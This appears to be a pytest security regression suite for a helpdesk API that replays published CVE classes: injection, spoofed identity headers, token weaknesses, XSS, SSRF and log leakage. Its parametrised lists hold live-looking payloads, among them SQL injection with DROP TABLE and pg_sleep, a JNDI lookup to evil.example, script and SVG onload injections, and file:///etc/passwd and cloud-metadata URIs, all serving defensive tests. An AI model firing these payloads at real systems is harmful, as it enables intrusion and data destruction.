"""What went wrong in other helpdesks, tried here: the classes of published reports that no other test has."""

import asyncio
import json
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from structlog.testing import capture_logs

from models.contracts.people import TokenPurpose
from models.repositories import one_time_tokens, second_factors
from models.repositories.vault import Vault
from models.tables import members
from models.tables import one_time_tokens as tokens_table
from runtime.crypto.roots import RootKeys
from runtime.database import Database
from runtime.embedded import Servers
from tests.service.api.house import ROOT_KEYS, Company, company, serving, settings_of
from tests.service.api.signing import message, sender
from tests.service.api.signing_in import CHEAP, PASSWORD, email_of, give_password, log_in, try_login

BETTER = "quite another battery staple"


@pytest.fixture(scope="module")
async def url(servers: Servers) -> AsyncIterator[str]:
    async with serving(settings_of(servers, **CHEAP)) as (url, _):
        yield url


@pytest.fixture
async def acme(database: Database, url: str) -> AsyncIterator[Company]:
    async with company(database, url) as acme:
        yield acme


def stranger(acme: Company) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=acme.http.base_url, timeout=30, trust_env=False)


# Injection (CVE-2025-21628, GHSA-9pgm-75gg-6948, CVE-2021-22911) -----------------------------------

INJECTIONS = [
    "' OR 1=1 --",
    "x'; DROP TABLE members; --",
    "1) UNION SELECT hash FROM api_keys --",
    "AND 1=1) OR (1=1",
    "%' OR '%'='",
    '{"$ne": null}',
    '{"$regex": ".*"}',
    "\\'; SELECT pg_sleep(5); --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_a_filter_is_a_value_and_never_a_statement(acme: Company, text: str) -> None:
    """Each place of a query that takes a text: refused, or compared as it is."""
    await acme.opened(customer={"external_id": "somebody", "name": "Somebody"})
    found = await acme.get("/v1/customers", params={"external_id": text})
    assert (found.status_code, found.json()["items"]) == (200, [])
    for path, name in (
        ("/v1/conversations", "state"),
        ("/v1/conversations", "cursor"),
        ("/v1/conversations", "query_operator"),
        ("/v1/escalations", "status"),
        ("/v1/audit", "action"),
        ("/v1/members", "sort"),
    ):
        refused = await acme.get(path, params={name: text})
        assert refused.status_code == 422, f"{path} {name}: {refused.text}"


@pytest.mark.parametrize("text", INJECTIONS)
async def test_what_is_written_comes_back_as_it_was(acme: Company, text: str) -> None:
    """Names and ids of customers are where others built statements from."""
    conversation = await acme.opened(customer={"external_id": text, "name": text})
    customer = (await acme.get(f"/v1/conversations/{conversation}")).json()["customer"]
    assert customer["name"] == text
    found = (await acme.get("/v1/customers", params={"external_id": text})).json()["items"]
    assert [each["id"] for each in found] == [customer["id"]]
    said = await acme.post(f"/v1/conversations/{conversation}/messages", {"text": text})
    assert said.status_code == 202
    (stored,) = (await acme.get(f"/v1/conversations/{conversation}/messages")).json()["items"]
    assert stored["text"] == text


@pytest.mark.parametrize("value", [{"$ne": None}, {"$gt": ""}, ["a"], True, 1])
async def test_a_credential_is_a_text(acme: Company, value: Any) -> None:
    """Operators in the place of a password or of a token opened other systems before sign-in."""
    async with stranger(acme) as http:
        for path, body in (
            ("login/json", {"email": "a@example.com", "password": value}),
            ("login/json", {"email": value, "password": "x"}),
            ("refresh", {"refresh_token": value}),
            ("reset-password", {"token": value, "password": PASSWORD}),
            ("accept-invite", {"token": value, "password": PASSWORD}),
        ):
            refused = await http.post(f"/v1/auth/{path}", json=body)
            assert refused.status_code == 422, f"{path} {body}: {refused.text}"


# Who somebody is (CVE-2026-34720, CVE-2026-34722) ---------------------------------------------------


@pytest.mark.parametrize(
    "header",
    ["X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Auth-Request-Email", "X-User-ID", "X-Tenant-ID", "X-Role"],
)
async def test_no_header_says_who_somebody_is(acme: Company, globex: Company, header: str) -> None:
    for value in ("owner", email_of(acme, "owner"), str(acme.members["owner"].id), str(acme.id)):
        async with stranger(acme) as http:
            assert (await http.get("/v1/conversations", headers={header: value})).status_code == 401
        as_agent = await acme.get("/v1/audit", headers={**acme.as_("aigerim"), header: value})
        assert as_agent.status_code == 403
        listed = await globex.get("/v1/members", headers={header: value})
        assert str(acme.members["owner"].id) not in listed.text


@pytest.mark.parametrize("name", ["tenant_id", "account_id", "member_id", "role", "as", "on_behalf_of"])
async def test_no_parameter_on_the_side_says_who_somebody_is(acme: Company, globex: Company, name: str) -> None:
    for value in (str(acme.id), str(acme.members["owner"].id), "owner"):
        refused = await globex.get("/v1/conversations", params={name: value})
        assert (refused.status_code, refused.json()["errors"][0]["field"]) == (422, name)
        refused = await globex.post("/v1/conversations", {name: value})
        assert (refused.status_code, refused.json()["errors"][0]["field"]) == (422, name)


async def test_an_id_is_no_key_to_what_it_names(acme: Company) -> None:
    """CVE-2026-4263: whoever knew a visitor's id read the visitor's conversation."""
    conversation = await acme.opened(customer={"external_id": "visitor-1"})
    await acme.post(f"/v1/conversations/{conversation}/messages", {"text": "My address is 1 Abay avenue."})
    paths = (f"/v1/conversations/{conversation}", f"/v1/conversations/{conversation}/messages", "/v1/events")
    async with stranger(acme) as http:
        for path in paths:
            for headers in ({}, {"Authorization": f"Bearer {conversation}"}, {"Authorization": "Bearer visitor-1"}):
                assert (await http.get(path, headers=headers)).status_code == 401
    for path in paths:
        assert (await acme.get(path, headers=acme.as_("user"))).status_code == 403


# Tokens (CVE-2026-41902, CVE-2026-27637) ------------------------------------------------------------


async def test_an_invitation_ends(acme: Company, database: Database) -> None:
    made = await acme.post("/v1/members", {"email": f"new@{acme.slug}.example", "name": "New", "role": "agent"})
    invited = made.json()["id"]
    async with database.tenant(acme.id) as tx:
        token = await one_time_tokens.issue(tx, invited, TokenPurpose.INVITE)
        left = await tx.connection.scalar(sa.select(tokens_table.c.expires_at - sa.func.now()))
        assert left == timedelta(days=7)
        await tx.connection.execute(sa.update(tokens_table).values(expires_at=sa.func.now()))
    async with stranger(acme) as http:
        late = await http.post("/v1/auth/accept-invite", json={"token": token, "password": BETTER})
    assert (late.status_code, late.json()["errors"][0]["field"]) == (422, "token")


async def test_a_token_cannot_be_computed(acme: Company, database: Database) -> None:
    """256 random bits: the same member, purpose and moment give another one each time, and only its hash is kept."""
    member = acme.members["boris"].id
    async with database.tenant(acme.id) as tx:
        issued = [await one_time_tokens.issue(tx, member, TokenPurpose.RESET) for _ in range(20)]
        kept = (await tx.connection.scalars(sa.text("SELECT t::text FROM one_time_tokens t"))).all()
    assert len(set(issued)) == 20
    assert {len(token) for token in issued} == {43}
    assert len(kept) == 1
    assert not [token for token in issued if token in kept[0]]


async def test_a_new_password_takes_no_second_factor_away(acme: Company, database: Database) -> None:
    """Who reads somebody's mail, and has not their app, does not get in."""
    boris = await give_password(database, acme, "boris")
    member, vault = acme.members["boris"].id, Vault(RootKeys.parse(ROOT_KEYS))
    async with database.tenant(acme.id) as tx:
        await second_factors.begin(tx, vault, member)
        await tx.connection.execute(sa.text("UPDATE second_factors SET confirmed_at = now()"))
        await tx.connection.execute(sa.update(members).where(members.c.id == member).values(joined_at=sa.func.now()))
        token = await one_time_tokens.issue(tx, member, TokenPurpose.RESET)
    async with stranger(acme) as http:
        reset = await http.post("/v1/auth/reset-password", json={"token": token, "password": BETTER})
    assert reset.status_code == 204, reset.text
    refused = await try_login(acme.http, boris, BETTER)
    assert (refused.status_code, refused.json()["type"]) == (401, "urn:mainstay:problem:second-factor-required")


async def test_whoever_finds_a_session_open_cannot_go_on_guessing_its_password(
    acme: Company, database: Database
) -> None:
    login = await log_in(acme.http, await give_password(database, acme, "boris"))
    answers = [
        await acme.post(
            "/v1/auth/change-password", {"current": f"wrong {number}", "new": BETTER}, headers=login.headers
        )
        for number in range(12)
    ]
    assert [answer.status_code for answer in answers] == [403] * 10 + [429] * 2
    assert 0 < int(answers[-1].headers["retry-after"]) <= 600


# What is shown to people (CVE-2018-1000154, CVE-2021-3742, osTicket #3764, CVE-2026-22200) ----------

SCRIPTS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(1)>',
    "</title><script>alert(1)</script>",
    '<iframe src="file:///etc/passwd">',
]


@pytest.mark.parametrize("text", SCRIPTS)
async def test_no_answer_is_a_page(acme: Company, text: str) -> None:
    """Wherever a text comes back, a browser is told that it is data, and may neither guess, run nor frame it."""
    conversation = await acme.opened(customer={"external_id": text, "name": text})
    await acme.post(f"/v1/conversations/{conversation}/messages", {"text": text})
    await acme.post("/v1/members", {"email": f"new@{acme.slug}.example", "name": text, "role": "user"})
    answers = [
        await acme.get(f"/v1/conversations/{conversation}"),
        await acme.get(f"/v1/conversations/{conversation}/messages"),
        await acme.get("/v1/members"),
        await acme.get("/v1/customers", params={"external_id": text}),
        await acme.get(f"/v1/{text}"),
        await acme.get("/v1/conversations", params={text: text}),
        await acme.get("/v1/audit/export?format=csv"),
    ]
    for answer in answers:
        headers = answer.headers
        assert headers["content-type"].partition(";")[0] in {"application/json", "application/problem+json", "text/csv"}
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"].startswith("default-src 'none'")
        if headers["content-type"].startswith("text/"):
            assert headers["content-disposition"].startswith("attachment")
            assert "charset=utf-8" in headers["content-type"]


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
        ("page.html", b"<script>alert(1)</script>", "text/html"),
        ("page.pdf", b"%PDF-1.4", "application/pdf"),
        ("a.md.exe", b"MZ", "text/markdown"),
        ("picture.md", b"\x89PNG\r\n\x1a\n\x00", "text/markdown"),
    ],
)
async def test_an_upload_is_given_out_to_nobody(acme: Company, name: str, content: bytes, media_type: str) -> None:
    """Not even to who uploaded it: there are its text, once it is read, and a report."""
    files = {"files": (name, content, media_type)}
    stored = await acme.http.post("/v1/kb/upload", data={"name": "help"}, files=files)
    assert stored.status_code == 202, stored.text
    report = await acme.get(f"/v1/kb/jobs/{stored.json()['job_id']}/files")
    (line,) = report.json()["items"]
    assert (line["name"], line["size"], line["media_type"]) == (name, len(content), None)
    assert report.headers["content-type"] == "application/json"
    assert not {"content", "data", "url"} & line.keys()


@pytest.mark.parametrize(
    "uri",
    [
        "javascript:alert(1)",
        "JaVaScRiPt://example.com/%0aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//example.com/",
        "/relative",
        "https://example.com@evil.example/",
        "https://exam\tple.com/",
        "https://example.com/\u202ecod.exe",
    ],
)
async def test_a_page_is_cited_by_a_link_that_only_leads_somewhere(acme: Company, uri: str) -> None:
    document = {"name": "a.md", "text": "hello", "uri": uri}
    refused = await acme.post("/v1/kb/sources", {"name": "help", "documents": [document]})
    assert (refused.status_code, refused.json()["errors"][0]["field"]) == (422, "documents.0.uri")
    document["uri"] = "http://intranet.example:8000/help?a=1#b"
    assert (await acme.post("/v1/kb/sources", {"name": "help", "documents": [document]})).status_code == 202


# What comes in by a webhook (CVE-2024-39713) ---------------------------------------------------------


async def test_nothing_that_a_delivery_names_is_fetched(acme: Company, worker: None) -> None:
    """Somebody else's message asked the server to fetch a picture from inside its own network."""
    asked: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.append(await reader.read(1000))
        writer.close()

    async with await asyncio.start_server(serve, "127.0.0.1") as inside:
        inner = f"http://127.0.0.1:{inside.sockets[0].getsockname()[1]}/latest/meta-data"
        shop = await sender(acme)
        unsigned = await shop.deliver(message(MediaUrl0=inner, NumMedia="1"), secret="whsec_AAAA")
        signed = await shop.deliver(message(MediaUrl0=inner, NumMedia="1"))
        told = await shop.deliver(message(f"![]({inner}) {inner}"))
        assert (unsigned.status_code, signed.status_code, told.status_code) == (401, 422, 200)
        async with acme.stream(f"/v1/conversations/{told.json()['conversation_id']}/events?after=0") as stream:
            await stream.until("message", author="bot")
    assert asked == []


# What is written down (CVE-2026-102489; and whoever watches for any of the above) --------------------


async def test_who_was_refused_is_logged_and_with_what_is_not(acme: Company) -> None:
    with capture_logs() as logs:
        wrong = f"{acme.keys['owner']}x"
        await acme.get("/v1/conversations?secret=qzxv", headers={"Authorization": f"Bearer {wrong}"})
        await try_login(acme.http, "nobody@example.com", "qzxv guess")
        await acme.get("/v1/audit", headers=acme.as_("aigerim"))
        await acme.get("/v1/conversations")
    seen = [entry for entry in logs if entry["event"] == "request" and entry["log_level"] == "info"]
    assert [(entry["route"], entry["status"]) for entry in seen] == [
        ("/v1/conversations", 401),
        ("/v1/auth/login/json", 401),
        ("/v1/audit", 403),
    ]
    assert {entry["client"] for entry in seen} == {"127.0.0.1"}
    assert seen[2]["member_id"] == str(acme.members["aigerim"].id)
    assert seen[2]["tenant_id"] == str(acme.id)
    for word in ("qzxv", wrong, "nobody@example.com"):
        assert word not in json.dumps(logs, default=str)


async def test_trace_is_no_method_here(acme: Company) -> None:
    for path in ("/v1/conversations", "/health", "/"):
        answer = await acme.http.request("TRACE", path, headers={"X-Secret": "qzxv"})
        assert answer.status_code in {404, 405}
        assert "qzxv" not in answer.text
